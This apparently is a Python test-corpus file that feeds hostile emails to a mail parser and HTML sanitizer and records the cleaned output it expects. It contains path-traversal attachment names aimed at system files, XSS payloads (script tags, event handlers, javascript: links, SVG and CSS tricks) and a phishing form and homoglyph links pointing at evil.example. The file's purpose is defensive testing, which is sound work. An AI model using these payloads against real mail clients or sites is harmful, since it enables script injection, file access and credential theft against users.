"""Hostile mail that is small enough to be kept as a file; what must be made large is made by its test."""

from tests.corpus.case import TEXT, Case, b64, multipart, part, plain


def _file(name: str, written: str, read: str, kind: str = "application/octet-stream") -> Case:
    attached = part(
        f"Content-Type: {kind}", b'Content-Disposition: attachment; filename="' + written.encode() + b'"', body="x"
    )
    return Case(f"hostile-file-{name}", plain('Content-Type: multipart/mixed; boundary="b"', body=multipart("b", TEXT, attached)),
                {"kind": "parsed", "names": [read]})  # fmt: skip


def _html(
    name: str, html: str, *, shows: str = "", hides: list[str] | None = None, remote: int = 0, warns: str = ""
) -> Case:
    raw = plain("Content-Type: text/html; charset=utf-8", body=html)
    expected = {"kind": "parsed", "shows": shows, "hides": hides or [], "remote": remote, "warns": warns}
    return Case(f"hostile-html-{name}", raw, expected)


CASES = [
    _file("parent-folders", "../../etc/passwd", "passwd"),
    _file("windows-folders", r"..\\..\\Windows\\win.ini", "win.ini"),
    _file("absolute", "/etc/shadow", "shadow"),
    _file("drive", "C:evil.exe", "C_evil.exe"),
    _file("device", "CON", "_CON"),
    _file("device-with-extension", "nul.txt", "_nul.txt"),
    _file("device-with-superscript", "COM¹.log", "_COM¹.log"),
    _file("dots-only", "..", "attachment-2.bin"),
    _file("hidden", ".htaccess", "htaccess"),
    _file("trailing-dots", "invoice.pdf. . .", "invoice.pdf"),
    _file("direction-turned", "invoice\u202efdp.exe", "invoicefdp.exe"),
    _file("null", "a=?utf-8?Q?=00?=b.txt", "a b.txt"),
    _file("line-break", "=?utf-8?Q?a=0D=0Ab.txt?=", "a b.txt"),
    _file("long", "x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    _file("long-in-three-octets", "漢" * 300 + ".pdf", "漢" * 78 + ".pdf"),
    _file("forbidden-characters", "a<b>:|?*.txt", "a_b_____.txt"),
    _file("alternate-stream", "file.txt::$DATA", "file.txt__$DATA"),
    _html("script", "<p>Hi</p><script>alert(1)</script>", shows="<p>Hi</p>", hides=["script", "alert"]),
    _html("handlers", '<p onclick="alert(1)" onmouseover=alert(2)>Hi</p>', shows="<p>Hi</p>", hides=["alert"]),
    _html("image-error", '<img src=x onerror="alert(1)">Hi', shows="Hi", hides=["alert", "onerror"]),
    _html("javascript-link", '<a href="javascript:alert(1)">Hi</a>', shows="Hi", hides=["javascript"]),
    _html("javascript-link-in-pieces", '<a href="jav&#x09;ascript:alert(1)">Hi</a>', shows="Hi", hides=["ascript:"]),
    _html("data-link", '<a href="data:text/html,<script>alert(1)</script>">Hi</a>', shows="Hi", hides=["data:", "alert"]),
    _html("svg", '<svg onload="alert(1)"><script>alert(2)</script><text>x</text></svg>Hi', shows="Hi", hides=["svg", "alert"]),
    _html("svg-image", '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">Hi', shows="Hi", hides=["data:"]),
    _html("math", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>Hi", shows="Hi", hides=["alert", "math"]),
    _html("style-sheet", "<style>@import url(https://evil.example/x.css)</style>Hi", shows="Hi", hides=["evil", "style"]),
    _html("style-url", '<p style="background:url(https://evil.example/t.png);color:red">Hi</p>', shows="Hi", hides=["evil", "url"]),
    _html("style-url-in-disguise", r'<p style="background-color:\75rl(https://evil.example/t.png)">Hi</p>', shows="Hi", hides=["evil"]),
    _html("style-expression", '<p style="width:expression(alert(1))">Hi</p>', shows="Hi", hides=["alert"]),
    _html("style-over-the-page", '<div style="position:fixed;top:0;left:0;z-index:9;color:red">Hi</div>', shows="color:red", hides=["position", "z-index"]),
    _html("form", '<form action="https://evil.example"><input name=password><button>Go</button></form>Hi', shows="Hi", hides=["form", "input", "evil"]),
    _html("frame", '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>Hi', shows="Hi", hides=["evil", "iframe", "object", "embed"]),
    _html("refresh", '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">Hi', shows="Hi", hides=["evil"]),
    _html("remote-image", '<img src="https://track.example/1.gif" width=1 height=1>Hi', shows="Hi", hides=["track"], remote=1),
    _html("remote-image-without-scheme", '<img src="//track.example/1.gif">Hi', shows="Hi", hides=["track"], remote=1),
    _html("remote-image-sets", '<img srcset="https://track.example/1.gif 2x"><picture><source srcset="https://track.example/2.gif"></picture>Hi', shows="Hi", hides=["track"]),
    _html("remote-background", '<table background="https://track.example/1.gif"><tr><td>Hi</table>', shows="Hi", hides=["track"]),
    _html("inline-image-that-is-none", '<img src="cid:nowhere">Hi', shows="Hi", hides=["cid"]),
    _html("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->Hi", shows="Hi", hides=["alert", "<!--"]),
    _html("target-and-opener", '<a href="https://northwind.example/a?b=1&amp;c=2" target=_self>Hi</a>',
          shows='rel="noopener noreferrer nofollow"', hides=["_self"]),
    _html("homoglyph-link", '<a href="https://nоrthwind.example/pay">Pay</a>', shows="https://xn--nrthwind-nbh.example/pay",
          warns="A link leads to xn--nrthwind-nbh.example, which is written with letters that may look like others."),
    _html("punycode-link", '<a href="https://xn--nrthwind-nbh.example/">Pay</a>', shows="xn--nrthwind-nbh",
          warns="A link leads to xn--nrthwind-nbh.example, which is written with letters that may look like others."),
    _html("link-that-says-another", '<a href="https://evil.example/login">https://www.northwind.example/login</a>', shows="evil.example",
          warns="A link that says northwind.example leads to evil.example."),
    _html("link-that-says-what-it-is", '<a href="https://www.northwind.example/a">northwind.example/a</a>', shows="northwind.example/a"),
    _html("unclosed", '<a href="https://northwind.example"><b><i><table><tr><td>Hi', shows="Hi"),
    _html("template", "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(2)>'></noscript>Hi",
          shows="Hi", hides=["onerror", "<script"]),
    Case("hostile-svg-attachment", plain('Content-Type: multipart/related; boundary="b"', body=multipart("b",
         part("Content-Type: text/html", body='<img src="cid:s">Hi'),
         part("Content-Type: image/svg+xml", "Content-ID: <s>", "Content-Transfer-Encoding: base64",
              body=b64(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")))),
         {"shows": "Hi", "hides": ["/inline/"], "names": ["attachment-2.svg"]}),
    Case("hostile-no-header", b"\x00\xff\x00\xff binary rubbish \x80\x81\r\n", {"kind": "unparsed", "problem": "The mail has no header."}),
    Case("hostile-empty", b"", {"kind": "unparsed", "problem": "The mail has no header."}),
    Case("hostile-line-breaks-only", b"\r\n\r\n\r\n", {"kind": "unparsed"}),
    Case("hostile-text-only", b"Just a text that somebody put where a mail should be.\n", {"kind": "unparsed",
         "text": "Just a text that somebody put where a mail should be."}),
    Case("hostile-long-message-id", plain("Message-ID: <" + "x" * 60_000 + "@x.example>"), {"kind": "parsed"}),
    Case("hostile-boundary-in-itself", plain('Content-Type: multipart/mixed; boundary="b"', body=multipart("b", part(
         'Content-Type: multipart/mixed; boundary="b"', body="x"), TEXT)), {"kind": "parsed"}),
]  # fmt: skip
